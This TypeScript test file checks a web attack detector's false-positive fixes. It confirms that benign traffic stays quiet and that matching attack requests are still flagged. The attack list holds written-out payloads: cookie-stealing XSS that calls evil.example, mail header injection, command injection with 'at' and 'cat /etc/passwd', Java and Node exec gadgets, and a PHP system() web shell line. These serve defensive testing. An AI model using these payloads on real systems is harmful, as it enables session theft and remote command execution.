/**
 * Real benign requests of developer sites, CMS and wiki admin saves, shops, mail and calendar
 * clients, SSO and payment callbacks, telemetry, GraphQL and searches in many scripts
 * (test/eval/site-traffic.ts; docs/detection.md, "The false-positive round, third session (branch
 * i18-fpr3)"): each stays quiet with profiles off, and through one detector with profiles on
 * (the default configuration) in the order a site receives them, except those LEFT_FLAGGED says
 * why. The classes fixed in that round are pinned first, each with the attacks of the same form.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import type { AttackClass } from '../../../node/records/types';
import { LEFT_FLAGGED, siteTraffic, form as siteForm, get as siteGet, json as siteJson } from '../../eval/site-traffic';
import { RELAXED, tx, type TxSpec } from './helpers';

const q = encodeURIComponent;
const HOST = 'app.example';
const get = (target: string): TxSpec => siteGet(HOST, target);
const json = (target: string, body: unknown): TxSpec => siteJson(HOST, target, body);
const form = (target: string, fields: Record<string, string>): TxSpec => siteForm(HOST, target, Object.entries(fields));

const detector = new AttackDetector(RELAXED);
const classes = (s: TxSpec): AttackClass[] => [...new Set(detector.detect(tx(s))?.hits.map((h) => h.class) ?? [])].sort();

const MESSAGE =
  'From: "Alice Smith" <alice@example.com>\r\nTo: Bob <bob@example.com>\r\nSubject: Lunch?\r\nDate: Mon, 07 Dec 2026 09:12:00 +0100\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\nAre you free at 12:30?\r\n';
const PDF =
  '%PDF-1.7\n\n1 0 obj  % entry point\n<<\n  /Type /Catalog\n  /Pages 2 0 R\n>>\nendobj\n\n2 0 obj\n<<\n  /Type /Pages\n  /MediaBox [ 0 0 200 200 ]\n  /Count 1\n  /Kids [ 3 0 R ]\n>>\nendobj\n';
const COOKIE_POST =
  'My cookie is not saved:\n\n```js\ndocument.cookie = "theme=dark; path=/; max-age=31536000; SameSite=Lax";\nconsole.log(document.cookie);\n```';
const JAVA_TRACE =
  "java.lang.IllegalStateException: Failed to load ApplicationContext\n\tat org.springframework.test.context.cache.DefaultCacheAwareContextLoaderDelegate.loadContext(DefaultCacheAwareContextLoaderDelegate.java:132)\n\tat java.base/java.lang.Thread.run(Thread.java:833)\nCaused by: java.sql.SQLSyntaxErrorException: Table 'test.users' doesn't exist";

/** Flagged before branch i18-fpr3: [what it is, the request]. */
const FIXED: Array<[string, TxSpec]> = [
  // mail_injection: a whole message's own header lines.
  [
    'a raw message upload',
    { ...siteGet(HOST, '/jmap/upload/u1/', [['Content-Type', 'message/rfc822']]), method: 'POST', body: MESSAGE },
  ],
  ['a draft with the message in JSON', json('/api/messages/draft', { raw: MESSAGE })],
  ['a Gmail API send (base64url)', json('/gmail/v1/users/me/messages/send', { raw: Buffer.from(MESSAGE).toString('base64url') })],
  // xss: script named in a Markdown post's closed code block; a navigation to one path of the site.
  ['a question with document.cookie in a code block', form('/questions/1/answer', { 'post-text': COOKIE_POST })],
  [
    'a question with window.location in a code block',
    json('/api/issues', { body: 'Why does this not redirect?\n\n```js\nwindow.location = "/checkout?step=2";\n```' }),
  ],
  ['a CSP report script sample', json('/csp-report', { 'csp-report': { 'script-sample': 'window.location.href = "/thanks"' } })],
  // rce, code injection: Java stack traces and exception names.
  ['a Java stack trace in a bug report', json('/api/issues', { body: JAVA_TRACE })],
  ['a Java exception name in telemetry', json('/v1/traces', { key: 'exception.type', value: 'java.sql.SQLException' })],
  ['a search for a Java exception', get(`/search?q=${q('java.lang.NullPointerException at')}`)],
  [
    'a stack frame with a Java 9 module',
    json('/api/errors', {
      stack: 'java.io.IOException: closed\n\tat java.base/java.io.FileInputStream.read(FileInputStream.java:276)',
    }),
  ],
  // rce, code injection: PHP in a closed code block; a Sieve filter; a call in inline code.
  [
    'a PHP question with its code in a block',
    json('/api/issues', {
      body: '```php\n<?php\n$stmt = $pdo->prepare("SELECT * FROM users WHERE email = ?");\n$stmt->execute([$_POST[\'email\']]);\n?>\n```\nIs this safe?',
    }),
  ],
  [
    'a Sieve mail filter',
    json('/api/filters', {
      script:
        'require ["fileinto", "imap4flags"];\nif header :contains "List-Id" "<jira.example.com>" {\n  fileinto "INBOX/Jira";\n  stop;\n}',
    }),
  ],
  ['a call in inline code', json('/api/posts', { body: 'Prefer `cookieStore.get("id")` to parsing cookies by hand.' })],
  // scanner: a repository's dotfiles, routed from a ref or a file API.
  [
    "a GitLab file API write of the project's CI file",
    json('/api/v4/projects/12/repository/files/.gitlab-ci.yml', { branch: 'main', content: 'stages: [test]' }),
  ],
  ["a repository's dotfile viewed on a code host", get('/acme/app/blob/main/.eslintrc.json')],
  // sqli: a PDF attachment, base64 in JSON.
  [
    'a PDF attachment in JSON',
    json('/api/messages/1/attachments', { name: 'invoice.pdf', contentBytes: Buffer.from(PDF).toString('base64') }),
  ],
];

/** The attacks of the same forms, still reported. */
const ATTACKS: Array<[AttackClass, string, TxSpec]> = [
  [
    'mail_injection',
    'a recipient injected after an address',
    form('/contact', { email: 'alice@example.com\r\nBcc: victim@example.org' }),
  ],
  ['mail_injection', 'header lines without a From', form('/contact', { subject: 'Hi\r\nBcc: victim@example.org\r\n\r\nbody' })],
  [
    'mail_injection',
    'a message-like value without its first field',
    json('/api/send', { raw: 'x\r\nTo: a@b.example\r\nBcc: victim@example.org\r\n\r\nhi' }),
  ],
  ['xss', 'markup inside a code block', form('/comment', { text: '```html\n<script>alert(document.cookie)</script>\n```' })],
  [
    'xss',
    'document.cookie in an unclosed block',
    form('/comment', { text: "```js\nnew Image().src='//evil.example/?'+document.cookie" }),
  ],
  [
    'xss',
    'document.cookie outside the block',
    form('/comment', { text: "';fetch('//evil.example/'+document.cookie);//\n```js\nx\n```" }),
  ],
  ['xss', 'a navigation to another host', get(`/search?q=${q('";window.location="//evil.example/";//')}`)],
  ['xss', 'a navigation to a backslash host', get(`/search?q=${q("';window.location='/\\\\evil.example';//")}`)],
  ['xss', 'a navigation carrying the cookie', get(`/search?q=${q("';window.location.href='/log?c='+document.cookie;//")}`)],
  ['rce', 'at with a job file after a separator', get(`/ping?host=${q('127.0.0.1;at now -f /tmp/x.sh')}`)],
  ['rce', 'at with a job file after a line break', form('/run', { host: '127.0.0.1\nat -f /tmp/a.sh now' })],
  ['rce', 'a JDK class that runs programs', get(`/search?q=${q("T(java.lang.Runtime).getRuntime().exec('id')")}`)],
  ['rce', 'an exception gadget', json('/api/objects', { type: 'javax.management.BadAttributeValueExpException' })],
  ['rce', 'PHP outside a code block', form('/comment', { text: '<?php system($_GET["c"]); ?>' })],
  [
    'rce',
    "Node's loader reached by brackets",
    json('/api/eval', { code: 'require["main"].require("child_process").exec("id")' }),
  ],
  ['rce', 'a command in a substitution', form('/comment', { text: 'see `cat /etc/passwd`' })],
  ['scanner', "a tool's dotfile at the site's root", get('/.gitlab-ci.yml')],
  ['scanner', "an editor's settings under an application", get('/app/.idea/workspace.xml')],
  ['scanner', 'a dotfile under a folder named like a route', get('/blob/.htaccess')],
  ['xss', 'script in base64 JSON', json('/api/files', { data: Buffer.from('<script>alert(1)</script>').toString('base64') })],
];

for (const [name, s] of FIXED)
  test(`quiet (fixed): ${name}`, () => assert.deepEqual(classes(s), [], `${s.method ?? 'GET'} ${s.target}`));
for (const [cls, name, s] of ATTACKS)
  test(`${cls} still: ${name}`, () =>
    assert.ok(classes(s).includes(cls), `${s.target} gave ${classes(s).join(',') || 'nothing'}`));

const SET = siteTraffic();

test('every request LEFT_FLAGGED names is in the set', () => {
  const names = new Set(SET.map((r) => r.name));
  assert.deepEqual(
    Object.keys(LEFT_FLAGGED).filter((n) => !names.has(n)),
    [],
  );
});

for (const r of SET) {
  if (Object.hasOwn(LEFT_FLAGGED, r.name)) continue;
  test(`quiet, profiles off: [${r.kind}] ${r.name}`, () =>
    assert.deepEqual(classes(r.spec), [], `${r.spec.method ?? 'GET'} ${r.spec.target}`));
}

test('quiet with profiles on, the set replayed in order through one detector', () => {
  const site = new AttackDetector({ maxMillisPerRequest: Number.POSITIVE_INFINITY });
  const flagged: string[] = [];
  for (const r of SET) {
    const res = site.detect(tx({ ...r.spec, response: { status: 200, body: 'ok' } }));
    if (res !== null && !Object.hasOwn(LEFT_FLAGGED, r.name))
      flagged.push(`[${r.kind}] ${r.name}: ${res.hits.map((h) => `${h.class} ${h.rule ?? ''}`).join(', ')}`);
  }
  assert.deepEqual(flagged, []);
});
